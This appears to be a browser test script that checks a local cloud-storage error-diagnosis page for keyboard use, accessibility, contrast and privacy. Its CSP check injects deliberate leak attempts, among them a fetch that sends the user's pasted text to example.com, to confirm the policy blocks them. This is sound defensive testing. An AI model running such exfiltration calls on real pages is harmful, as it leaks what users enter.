#!/usr/bin/env python3
"""Drives the diagnosis page in Chromium by keyboard: diagnose_check.py OUTPUT [--rows ID,ID] [--languages en] [--screenshots FOLDER]

Each row of tests/cases/scans.jsonl is pasted into the page of both languages. Prints one line per
fault and `N passed, M failed`.
"""

import argparse
import base64
import json
import sys
import time
from pathlib import Path

from devtools import CONTROL, SHIFT, Page

ROOT = Path(__file__).resolve().parents[3]
ROWS = [json.loads(line) for line in (ROOT / "tests/cases/scans.jsonl").read_text(encoding="utf-8").splitlines()]
WORDS = {
    "en": {
        "service": "Response from", "when": "Time of the request", "message": "Message of the server", "meaning": "What it means and what to do",
        "operation": "Permission", "retry": "Retry", "request_id": "Request ID", "trace_id": "Trace ID", "resource": "Resource",
        "line": "Place in the text", "steps": "Diagnosis by Tencent Cloud", "pages": "More",
        "cos": "COS", "ci": "Data processing (CI)", "other": "Another server: a gateway, CDN, proxy or portal", "unknown": "Unknown",
        "no": "No", "yes": "Yes, later", "after-fix": "After a fix", "none": "Nothing is recognised.", "empty": "There is no text yet.",
        "title": "Diagnose a failed request", "label": "Text to diagnose", "explain": "Explain", "clear": "Clear", "results": "Results",
    },
    "zh": {
        "service": "响应方", "when": "请求时间", "message": "服务端信息", "meaning": "含义与处理建议",
        "operation": "所需权限", "retry": "重试", "request_id": "请求 ID", "trace_id": "跟踪 ID", "resource": "资源",
        "line": "文中位置", "steps": "腾讯云自助诊断", "pages": "更多",
        "cos": "COS", "ci": "数据万象（CI）", "other": "其他服务器：网关、CDN、代理或门户", "unknown": "未知",
        "no": "不可以", "yes": "可以，稍后重试", "after-fix": "修正后可以重试", "none": "无法识别。", "empty": "尚未输入内容。",
        "title": "诊断失败的请求", "label": "待诊断的内容", "explain": "诊断", "clear": "清空", "results": "诊断结果",
    },
}
TOOL = "https://console.cloud.tencent.com/cos5/diagnose"
# What is found, as the page shows it: the title, and the text of each row.
SHOWN = """[...document.querySelectorAll('article')].map((article) => ({
  title: article.querySelector('h2').textContent,
  rows: Object.fromEntries([...article.querySelectorAll('dl > div')].map((row) => [row.querySelector('dt').textContent, row.querySelector('dd').innerText])),
  links: [...article.querySelectorAll('a')].map((link) => link.getAttribute('href')),
}))"""
# Resolves when the page says the next time what it has found. The limit is for a page that does not.
NEXT = """window.said = new Promise((resolve) => {
  new MutationObserver((_, observer) => {
    observer.disconnect();
    resolve(document.getElementById('state').textContent);
  }).observe(document.getElementById('state'), { childList: true });
  setTimeout(resolve, 20000, null);
}); true"""
# What each attempt to send or to run something raises: the directives that refused it.
ATTEMPTS = """(async () => {
  const refused = [];
  // Each attempt is refused once; the limit is for a policy that lets one pass.
  const all = new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective) === 9 && resolve());
    setTimeout(resolve, 10000);
  });
  const tried = [
    () => fetch('https://example.com/?' + document.getElementById('text').value),
    () => fetch('../index.html'),
    () => new WebSocket('wss://example.com/'),
    () => navigator.sendBeacon('https://example.com/', 'text'),
    () => new Image().src = 'https://example.com/image.png',
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://example.com/style.css' })),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://example.com/' })),
    () => new Function('return 1')(),
    () => document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'),
  ];
  const ended = [];
  for (const attempt of tried) {
    try { await attempt(); } catch (error) { ended.push(error.name); }
  }
  await all;
  return { refused, ended };
})()"""
CONTRASTS = """(() => {
  const channels = (color) => {
    const numbers = color.match(/[\\d.]+/g).map(Number);
    return color.startsWith('color(') ? numbers.slice(0, 3) : numbers.slice(0, 3).map((each) => each / 255);
  };
  const light = (color) => channels(color).map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
    .reduce((sum, c, at) => sum + c * [0.2126, 0.7152, 0.0722][at], 0);
  const behind = (node) => {
    const color = getComputedStyle(node).backgroundColor;
    return color === 'rgba(0, 0, 0, 0)' && node.parentElement ? behind(node.parentElement) : color;
  };
  return ['h1', 'label', 'textarea', 'button[type=submit]', '#clear', '#keys', '#state', 'nav a', 'dt', 'dd', 'dd a'].map((selector) => {
    const node = document.querySelector(selector);
    const [bright, dark] = [light(getComputedStyle(node).color), light(behind(node))].sort((a, b) => b - a);
    return [selector, (bright + 0.05) / (dark + 0.05)];
  });
})()"""


class Silence(Exception):
    """The page did not react to a key."""


class Faults:
    def __init__(self):
        self.passed, self.told = 0, []

    def expect(self, holds, fault):
        if holds:
            self.passed += 1
        else:
            self.told.append(fault)

    def same(self, what, actual, expected):
        self.expect(actual == expected, f"{what}: {actual!r} instead of {expected!r}")


def go_to(page, name):
    """Presses Tab until the element has the focus; False if it is never reached."""
    for _ in range(40):
        if page.focused() == name:
            return True
        page.press("Tab")
    return False


def paste(page, text):
    """Replaces what is in the field, by keyboard."""
    page.evaluate("document.getElementById('text').select()")
    page.call("Input.insertText", text=text)
    # Without a text, insertText leaves the selection.
    if not text:
        page.evaluate("document.getElementById('text').value = ''")


def explain(page, key="Enter", modifiers=CONTROL):
    """Presses a key; what the page says after that."""
    page.evaluate(NEXT)
    page.press(key, modifiers)
    said = page.evaluate("said")
    if said is None:
        raise Silence(f"{key} with the modifiers {modifiers}: the page says nothing")
    return said


def utc(seconds):
    return time.strftime("%Y-%m-%d %H:%M:%S UTC", time.gmtime(seconds))


def check_finding(faults, what, shown, found, words):
    rows = shown["rows"]
    member = {"message": "message", "trace_id": "trace_id", "resource": "resource"}
    if found["kind"] == "error":
        member["request_id"] = "request_id"
        status = f" (HTTP {found['status']})" if found["status"] else ""
        faults.same(f"{what}: title", shown["title"], found["code"] + status)
        faults.expect(len(rows.get(words["meaning"], "")) > 10, f"{what}: no advice")
    elif found["kind"] == "id":
        faults.expect(found["request_id"] in shown["title"], f"{what}: title {shown['title']}")
        if found.get("code"):
            faults.expect(found["code"] in rows[words["meaning"]], f"{what}: the code is missing")
    for name, label in member.items():
        if name in found:
            faults.same(f"{what}: {name}", rows.get(words[label], ""), " ".join(found[name].split()))
    if "responder" in found:
        faults.same(f"{what}: responder", rows[words["service"]], words[found["responder"]])
        has_steps = found["responder"] == "cos" and bool(found.get("request_id", shown["rows"].get(words["request_id"])))
        faults.same(f"{what}: steps", TOOL in shown["links"], has_steps)
    if "retry" in found:
        faults.same(f"{what}: retry", rows[words["retry"]], words[found["retry"]])
    if found.get("operation"):
        faults.same(f"{what}: permission", rows[words["operation"]], f"name/cos:{found['operation']}")
    if "made_at_s" in found:
        faults.expect(rows[words["when"]].startswith(utc(found["made_at_s"])), f"{what}: time {rows[words['when']]}")
    faults.expect((words["line"] in rows) == (found["line"] > 0), f"{what}: line {rows.get(words['line'])}")


def check_row(faults, page, row, language):
    words, what = WORDS[language], f"{language}: {row['id']}"
    paste(page, row["text"])
    said = explain(page)
    shown = page.evaluate(SHOWN)
    faults.same(f"{what}: results", len(shown), len(row["found"]))
    if row["found"]:
        faults.same(f"{what}: focus", page.focused(), "finding-0")
    else:
        faults.expect(said.startswith(words["none" if row["text"].strip() else "empty"]), f"{what}: says {said}")
    for one, found in zip(shown, row["found"]):
        check_finding(faults, what, one, found, words)
    text = page.evaluate("document.querySelector('main').innerText")
    for secret in row.get("hides", []):
        faults.expect(secret not in text, f"{what}: shows {secret}")
    page.press("Tab", SHIFT) if row["found"] else None
    faults.expect(go_to(page, "text"), f"{what}: the field cannot be reached")


def check_keyboard(faults, page, language):
    """The tab order, both ways to start, and the button that clears."""
    page.evaluate("document.activeElement.blur()")
    faults.expect(go_to(page, "text"), f"{language}: Tab does not reach the field")
    faults.same(f"{language}: an empty field", explain(page)[:6], WORDS[language]["empty"][:6])
    page.call("Input.insertText", text="NWNhYzEzZThfNGQ5ZTU4NjRfNmFhNV83YTZjOGY=")
    page.press("Tab")
    faults.same(f"{language}: after the field", page.focused(), WORDS[language]["explain"])
    explain(page, modifiers=0)
    faults.same(f"{language}: focus", page.focused(), "finding-0")
    page.press("Tab")
    faults.same(f"{language}: the link in the result", page.focused(), TOOL)
    go_to_clear = go_to(page, "clear")
    faults.expect(go_to_clear, f"{language}: Tab does not reach the second button")
    explain(page, modifiers=0)
    faults.same(f"{language}: cleared", [page.focused(), page.evaluate("document.getElementById('text').value"), page.evaluate(SHOWN)], ["text", "", []])


def check_tree(faults, page, language):
    """Roles and names, as a screen reader gets them."""
    words = WORDS[language]
    paste(page, "NWNhYzEzZThfNGQ5ZTU4NjRfNmFhNV83YTZjOGY=")
    explain(page)
    nodes = [node for node in page.call("Accessibility.getFullAXTree")["nodes"] if not node.get("ignored")]
    tree = {(node["role"]["value"], node.get("name", {}).get("value", "")) for node in nodes}
    title = "Request ID NWNhYzEzZThfNGQ5ZTU4NjRfNmFhNV83YTZjOGY=" if language == "en" else "请求 ID NWNhYzEzZThfNGQ5ZTU4NjRfNmFhNV83YTZjOGY="
    for role, name in (("heading", words["title"]), ("textbox", words["label"]), ("button", words["explain"]), ("button", words["clear"]),
                       ("region", words["results"]), ("article", title), ("heading", title), ("link", TOOL), ("navigation", "libcos_err"), ("status", ""), ("main", "")):
        faults.expect((role, name) in tree, f"{language}: no {role} {name!r} in the accessibility tree")
    field = next(node for node in nodes if node["role"]["value"] == "textbox")
    faults.expect("Ctrl+Enter" in field.get("description", {}).get("value", ""), f"{language}: the field does not tell the key")
    faults.same(f"{language}: language", page.evaluate("document.documentElement.lang"), {"en": "en", "zh": "zh-CN"}[language])


def check_looks(faults, page, language, folder):
    """Contrast, and no sideways scrolling, in both widths and colour schemes."""
    paste(page, next(row["text"] for row in ROWS if row["id"] == "go"))
    explain(page)
    page.call("Emulation.setScrollbarsHidden", hidden=True)
    for scheme in ("light", "dark"):
        page.call("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
        for selector, ratio in page.evaluate(CONTRASTS):
            faults.expect(ratio >= 4.5, f"{language}: {scheme}: {selector} has a contrast of {ratio:.2f}")
        for width in (500, 1280):
            page.call("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
            wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
            faults.expect(wide <= 0, f"{language}: {width} pixels are too few, by {wide}")
            if folder:
                page.evaluate("scrollTo(0, 0)")
                picture = page.call("Page.captureScreenshot", captureBeyondViewport=True)["data"]
                Path(folder, f"{language}-{scheme}-{width}.png").write_bytes(base64.b64decode(picture))


def check_secrecy(faults, page, language, url):
    """Nothing was sent until now, nothing is kept, and nothing can be sent."""
    asked = [each["request"]["url"] for each in page.of("Network.requestWillBeSent")]
    faults.same(f"{language}: requests", [each for each in asked if not each.startswith("data:")], [url])
    kept = "[localStorage.length, sessionStorage.length, document.cookie, location.href, history.length]"
    faults.same(f"{language}: complaints of the browser", [each["entry"]["text"] for each in page.of("Log.entryAdded")], [])
    faults.same(f"{language}: kept", page.evaluate(kept)[:4], [0, 0, "", url])
    ended = page.evaluate(ATTEMPTS)
    expected = ["connect-src"] * 4 + ["frame-src", "img-src", "require-trusted-types-for", "require-trusted-types-for", "style-src-elem"]
    faults.same(f"{language}: refused by the policy", sorted(ended["refused"]), expected)
    outcomes = {each["requestId"]: each.get("blockedReason") for each in page.of("Network.loadingFailed")}
    attempts = page.of("Network.requestWillBeSent")[len(asked):]
    for each in (each for each in attempts if not each["request"]["url"].startswith("data:")):
        faults.same(f"{language}: {each['request']['url']}", outcomes.get(each["requestId"]), "csp")


def check_page(faults, page, output, language, rows, folder):
    url = f"file://{output}/{language}/diagnose.html"
    page.open(url)
    check_keyboard(faults, page, language)
    for row in rows:
        check_row(faults, page, row, language)
    check_tree(faults, page, language)
    check_looks(faults, page, language, folder)
    check_secrecy(faults, page, language, url)
    faults.same(f"{language}: exceptions", page.of("Runtime.exceptionThrown"), [])


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("output", type=Path)
    parser.add_argument("--rows", default="")
    parser.add_argument("--languages", default="en,zh")
    parser.add_argument("--screenshots")
    options = parser.parse_args()
    chosen = options.rows.split(",")
    rows = [row for row in ROWS if not options.rows or row["id"] in chosen]
    faults = Faults()
    with Page() as page:
        try:
            for language in options.languages.split(","):
                check_page(faults, page, options.output.resolve(), language, rows, options.screenshots)
        except Silence as silence:
            faults.expect(False, silence.args[0])
    print("\n".join(faults.told))
    print(f"{faults.passed} passed, {len(faults.told)} failed")
    return bool(faults.told)


if __name__ == "__main__":
    sys.exit(main())
